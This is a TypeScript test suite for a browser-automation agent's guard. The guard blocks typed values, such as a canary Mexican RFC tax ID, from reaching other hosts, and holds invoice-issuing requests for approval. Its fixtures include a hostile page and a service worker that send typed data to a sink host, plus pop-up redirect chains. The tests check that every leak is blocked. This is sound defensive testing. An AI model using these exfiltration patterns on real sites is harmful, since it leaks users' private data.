import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { HeldRequest } from '@cfdi-live/agent';
import { attacks, script, sharedCode, workerCode } from './hostile.ts';
import {
  find,
  page,
  startBrowserHost,
  startSite,
  until,
  type BrowserHost,
  type Pages,
  type Site,
} from './support.ts';

const CANARY = 'CANA010101ABC';
const encoded = [
  CANARY,
  CANARY.toLowerCase(),
  Buffer.from(CANARY).toString('base64').slice(0, 12),
  Buffer.from(CANARY).toString('hex'),
];

let host: BrowserHost;
let sink: Site;
let site: Site;

beforeAll(async () => {
  host = await startBrowserHost();
  sink = await startSite({
    '/logo.png': { body: 'png', headers: { 'content-type': 'image/png' } },
    '/lib.js': script('window.lib = 1'),
    '/api': {
      body: '{}',
      headers: { 'access-control-allow-origin': '*', 'content-type': 'application/json' },
    },
  });
  const pages: Pages = {
    '/hostile': () =>
      page(
        `<label>RFC <input id="r"></label><script>${attacks(sink.origin)} r.addEventListener('blur', async () => { await attack(r.value); fetch('/hecho'); });</script>`,
      ),
    '/redirect': (request) => ({
      status: 302,
      headers: { location: new URL(request.url, 'http://x').searchParams.get('to') ?? '/' },
    }),
    '/worker.js': script(workerCode),
    '/shared.js': script(sharedCode),
    '/sw.js': script('onmessage = (e) => fetch(e.data.sink + "/sw?" + e.data.v)'),
    '/innocent': () =>
      page(`<img src="${sink.origin}/logo.png?v=3"><script src="${sink.origin}/lib.js"></script><script>fetch('${sink.origin}/api').then(() => { a.textContent = 'antes' })</script>
      <p id="a"></p><label>RFC <input id="r"></label><button onclick="fetch('${sink.origin}/api', { method: 'POST', body: r.value }).then(() => { o.textContent = 'ok' }, () => { o.textContent = 'no' })">Consulta</button><output id="o"></output>`),
    '/late': () =>
      page(
        `<label>RFC <input id="r"></label><button onclick="fetch('${sink.origin}/api').then(() => { o.textContent = 'ok' }, () => { o.textContent = 'no' })">Consulta</button><output id="o"></output>`,
      ),
    '/dying':
      page(`<button onclick="fetch('/asked').then(() => { o.textContent = 'ok' })">Consulta</button><output id="o"></output>
      <button onclick="fetch('/die', { method: 'POST', body: 'x' }).catch(() => { o.textContent = 'nada' })">Emite</button>
      <form action="/die" method="post"><label>RFC <input name="r"></label><label>Folio <input name="f"></label><button>Envía</button></form>`),
    '/asked': 'ok',
    '/die': () => Promise.reject(new Error('the connection dies')),
    '/pop-ups': () =>
      page(
        `<button onclick="for (let i = 0; i < 8; i++) window.open('/redirect?to=' + encodeURIComponent('${sink.origin}/p' + i))">Abre</button>`,
      ),
    '/leads-away': () => ({ status: 302, headers: { location: `${sink.origin}/landing` } }),
    '/own-socket': () =>
      page(
        `<script>const s = new WebSocket('ws://' + location.host + '/socket'); s.onerror = () => { document.body.append('cerrado') }</script>`,
      ),
    '/cookies': {
      body: page('<script>document.write(document.cookie)</script>'),
      headers: { 'set-cookie': ['uno=1', 'dos=2'] },
    },
    '/issue': page(`<label>RFC <input id="r"></label><label>Folio <input id="f"></label>
      <button onclick="fetch('/timbrar?f=' + f.value, { method: 'POST' }).then((x) => x.text()).then((t) => { o.textContent = t }, () => { o.textContent = 'detenido' })">Generar</button><output id="o"></output>`),
    '/timbrar': 'timbrado',
  };
  site = await startSite(pages);
});
afterEach(async () => {
  await host.endSessions();
  sink.received.length = 0;
  site.received.length = 0;
});
afterAll(async () => {
  await host.stop();
  await site.stop();
  await sink.stop();
});

/** With private hosts allowed, the sink is for the guard a public host like any other. */
const asPublic = { allowedPrivateHosts: ['127.0.0.1', 'localhost'], values: [CANARY] };
const rfc = { source: 'profile.rfc', text: CANARY };

async function at(path: string, options: Parameters<BrowserHost['driver']>[1] = asPublic) {
  const driver = await host.driver(site.origin, options);
  await driver.open(site.origin + path);
  const seen = await driver.snapshot();
  const id = (role: Parameters<typeof find>[1], words: string) => find(seen, role, words).id;
  return { driver, seen, id };
}

describe('a hostile portal', () => {
  it('gets no typed value out to another host, by any road', async () => {
    const { driver, id } = await at('/hostile');
    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
    await until(() => site.received.some((request) => request.url === '/hecho'));
    await until(
      () => driver.blocked.filter((refusal) => refusal.reason === 'foreign_navigation').length >= 2,
    );
    await driver.waitForChange(500);

    const leaks = sink.received.filter((request) => {
      const all = JSON.stringify([request.url, request.body, request.headers]);
      return request.method === 'UPGRADE' || encoded.some((form) => all.includes(form));
    });
    expect(leaks.map((request) => `${request.method} ${request.url}`)).toEqual([]);
    expect(sink.received.filter((request) => request.method !== 'GET')).toEqual([]);
    expect(driver.blocked.length).toBeGreaterThan(15);
    expect(JSON.stringify(driver.blocked)).not.toContain(CANARY);
    const { tabs } = await driver.snapshot();
    expect(
      tabs
        .map((tab) => new URL(tab.url).origin)
        .filter((origin) => origin !== site.origin && origin !== 'null'),
    ).toEqual([]);
  });

  it('of the sandbox gets nothing out to any other host, not even a picture before anything was typed', async () => {
    const before = sink.received.length;
    const { driver, id } = await at('/hostile', { ...asPublic, onlyHosts: [new URL(site.origin).host] });
    const arrivals = site.received.filter(({ url }) => url === '/hecho').length;
    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
    await until(() => site.received.filter(({ url }) => url === '/hecho').length > arrivals);
    await until(() => driver.blocked.length > 15);
    expect(sink.received.slice(before).map(({ method, url }) => `${method} ${url}`)).toEqual([]);
    expect(new Set(driver.blocked.map(({ reason }) => reason))).toContain('outside_sandbox');
    expect(driver.blocked.map(({ reason }) => reason)).not.toContain('foreign_navigation');
  });

  it('does not get the first navigation of a pop-up redirected away, however many it opens at once', async () => {
    const { driver, id } = await at('/pop-ups');
    await driver.perform({ kind: 'click', target: id('button', 'Abre') });
    await until(() => site.received.some((request) => request.url.startsWith('/redirect')));
    await driver.waitForChange(700);
    expect(sink.received).toEqual([]);
  });

  it('is under guard again where a page was left open without one', async () => {
    const { driver } = await at('/late');
    await driver.close();
    const resumed = await host.resume(site.origin, { ...asPublic, valuesTyped: () => true });
    const seen = await resumed.snapshot();
    await resumed.perform({ kind: 'click', target: find(seen, 'button', 'Consulta').id });
    expect((await resumed.snapshot()).texts).toContainEqual({ frameId: 'f0', kind: 'result', text: 'no' });
    expect(sink.received).toEqual([]);
  });

  it('does not lead the first page away', async () => {
    const driver = await host.driver(site.origin, asPublic);
    expect(await driver.open(`${site.origin}/leads-away`)).toMatchObject({
      ok: false,
      reason: 'navigation_blocked',
    });
    expect(sink.received).toEqual([]);
    expect(driver.blocked).toEqual([{ url: sink.origin, reason: 'foreign_navigation', topLevel: true }]);
  });
});

describe('an honest portal', () => {
  it('gets its pictures, scripts and the interface it called before anything was typed, also afterwards', async () => {
    const { driver, seen, id } = await at('/innocent');
    expect(seen.texts).toContainEqual({ frameId: 'f0', kind: 'paragraph', text: 'antes' });
    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
    await driver.perform({ kind: 'click', target: id('button', 'Consulta') });
    expect((await driver.snapshot()).texts).toContainEqual({ frameId: 'f0', kind: 'result', text: 'ok' });
    expect(sink.received.map((request) => `${request.method} ${request.url}`).sort()).toEqual([
      'GET /api',
      'GET /lib.js',
      'GET /logo.png?v=3',
      'POST /api',
    ]);
    expect(driver.blocked).toEqual([]);
  });

  it('cannot call a new host once a value was typed', async () => {
    const { driver, id } = await at('/late');
    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
    await driver.perform({ kind: 'click', target: id('button', 'Consulta') });
    expect((await driver.snapshot()).texts).toContainEqual({ frameId: 'f0', kind: 'result', text: 'no' });
    expect(sink.received).toEqual([]);
  });

  it('keeps its cookies and its own WebSocket under the added policy', async () => {
    const { driver, seen } = await at('/cookies');
    expect(seen.texts.map((text) => text.text)).toContain('uno=1; dos=2');
    await driver.open(`${site.origin}/own-socket`);
    await until(() => site.received.some((request) => request.method === 'UPGRADE'));
  });

  it('loads nothing from private addresses that are not allowed', async () => {
    const { driver } = await at('/innocent', {
      allowedPrivateHosts: [new URL(site.origin).host],
      values: [],
    });
    expect(sink.received).toEqual([]);
    expect(new Set(driver.blocked.map((refusal) => refusal.reason))).toEqual(new Set(['private_address']));
  });
});

describe('a request that may issue', () => {
  const fillBoth = async (
    driver: Awaited<ReturnType<typeof at>>['driver'],
    id: Awaited<ReturnType<typeof at>>['id'],
  ) => {
    await driver.perform({
      kind: 'fill',
      target: id('textbox', 'Folio'),
      value: { source: 'ticket.folio', text: 'A-1' },
    });
    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
  };

  it('waits for the answer of whoever marks the ticket, and goes on when allowed', async () => {
    const asked: string[] = [];
    const told: string[] = [];
    const onHeldRequest = async ({ mayIssue, method, path, host }: HeldRequest) => {
      (mayIssue ? asked : told).push(`${method} ${host}${path}`);
      if (!mayIssue) return 'allow' as const;
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(site.received.some((request) => request.url.startsWith('/timbrar'))).toBe(false);
      return 'allow' as const;
    };
    const { driver, id } = await at('/issue', { ...asPublic, onHeldRequest });
    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
    await driver.perform({ kind: 'click', target: id('button', 'Generar') });
    expect(asked).toEqual([]);
    expect(told).toEqual([`POST ${new URL(site.origin).host}/timbrar`]);
    site.received.length = 0;
    await fillBoth(driver, id);
    expect(await driver.perform({ kind: 'click', target: id('button', 'Generar') })).toMatchObject({
      ok: true,
    });
    expect(asked).toEqual([`POST ${new URL(site.origin).host}/timbrar`]);
    expect(site.received.filter((request) => request.url === '/timbrar?f=A-1')).toHaveLength(1);
    expect((await driver.snapshot()).texts).toContainEqual({
      frameId: 'f0',
      kind: 'result',
      text: 'timbrado',
    });
  });

  it('is sent once by the browser too, where the connection dies without an answer', async () => {
    const { driver, id } = await at('/dying');
    await driver.perform({ kind: 'click', target: id('button', 'Consulta') });
    await driver.perform({ kind: 'click', target: id('button', 'Emite') });
    await until(() => site.received.some((request) => request.url === '/die'));
    await driver.waitForChange(500);
    expect(site.received.map((request) => request.url)).toEqual(['/dying', '/asked', '/die']);
  });

  it('is sent once where a form’s connection dies', async ({ skip }) => {
    skip(
      !host.headlessShell,
      'a full Chromium opens connections in advance, and sends again on the next one',
    );
    const { driver, id } = await at('/dying');
    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
    await driver.perform({
      kind: 'fill',
      target: id('textbox', 'Folio'),
      value: { source: 'ticket.folio', text: 'A-1' },
    });
    await driver.perform({ kind: 'click', target: id('button', 'Envía') });
    await until(() => site.received.some((request) => request.method === 'POST'));
    await driver.waitForChange(500);
    const sent = site.received.filter((request) => request.method === 'POST');
    expect(sent.map((request) => `${request.url} ${request.body}`)).toEqual([`/die r=${CANARY}&f=A-1`]);
  });

  it.each(['refuse', 'throw'] as const)('never leaves on %s', async (answer) => {
    const onHeldRequest = async () => {
      if (answer === 'throw') throw new Error('the gate is broken');
      return answer;
    };
    const { driver, id } = await at('/issue', { ...asPublic, onHeldRequest });
    await fillBoth(driver, id);
    await driver.perform({ kind: 'click', target: id('button', 'Generar') });
    expect((await driver.snapshot()).texts).toContainEqual({
      frameId: 'f0',
      kind: 'result',
      text: 'detenido',
    });
    expect(site.received.some((request) => request.url.startsWith('/timbrar'))).toBe(false);
  });
});
